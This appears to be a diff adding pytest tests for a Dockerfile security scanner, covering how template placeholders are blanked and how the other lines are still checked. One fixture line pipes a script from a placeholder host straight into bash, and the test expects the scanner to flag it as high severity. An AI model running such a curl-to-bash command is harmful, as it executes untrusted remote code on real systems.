@@ -1,0 +1,53 @@
+"""Dockerfile templates: placeholder-only lines are blanked, the rest is checked, one low note."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+from hypothesis import given
+from hypothesis import strategies as st
+
+from hooks._core.policy import Policy
+from hooks._core.severity import Severity
+from hooks.docker.spec import SPEC as DOCKER_SPEC
+from hooks.docker.template import blank_placeholders
+from tests.scanning import findings_of
+
+
+def _findings(tmp_path: Path, text: str) -> list[tuple[str, int, Severity]]:
+    path = tmp_path / "Dockerfile.test-nb"
+    path.write_text(text)
+    return [(f.rule_id, f.line, f.severity) for f in findings_of(DOCKER_SPEC, path, path.name, Policy(root=tmp_path))]
+
+
+def test_a_template_is_checked_around_its_placeholders(tmp_path: Path) -> None:
+    text = "FROM python:3.11\n{args}\n{{ extra_steps }}\n{% if gpu %}\nRUN curl -sSL https://x.example/i.sh | bash\n"
+    found = _findings(tmp_path, text)
+    assert ("MLS909", 2, Severity.LOW) in found
+    assert ("MLS503", 5, Severity.HIGH) in found  # the fixed lines are still judged
+    assert not any(rule == "MLS909" and severity >= Severity.MEDIUM for rule, _, severity in found)
+
+
+def test_a_placeholder_inside_an_instruction_is_no_template_line(tmp_path: Path) -> None:
+    # `RUN jupyter ... {notebook}` parses as an instruction: no template note, nothing blanked.
+    found = _findings(tmp_path, "FROM python:3.11\nRUN jupyter nbconvert --execute {notebook}\n")
+    assert not any(rule == "MLS909" for rule, _, _ in found)
+
+
+def test_a_line_that_is_no_placeholder_still_fails_closed(tmp_path: Path) -> None:
+    found = _findings(tmp_path, "FROM python:3.11\n{args}\n--flag value\n")
+    assert [(rule, severity >= Severity.MEDIUM) for rule, _, severity in found] == [("MLS909", True)]
+
+
+def test_blanking_keeps_every_other_line() -> None:
+    text = "FROM x\n  {pip}  \nRUN a {b}\n${EXTRA}\n<%= steps %>\n"
+    blanked, lines = blank_placeholders(text)
+    assert lines == [2, 4, 5]
+    assert blanked.split("\n")[0] == "FROM x" and blanked.split("\n")[2] == "RUN a {b}"
+
+
+@given(st.text(alphabet=st.sampled_from(list("{}%$<>= \n\tabcRUN{{}}_.")), max_size=300))
+def test_blanking_garbage_keeps_the_line_count(text: str) -> None:
+    blanked, lines = blank_placeholders(text)
+    assert blanked.count("\n") == text.count("\n")
+    assert all(1 <= n <= text.count("\n") + 1 for n in lines)
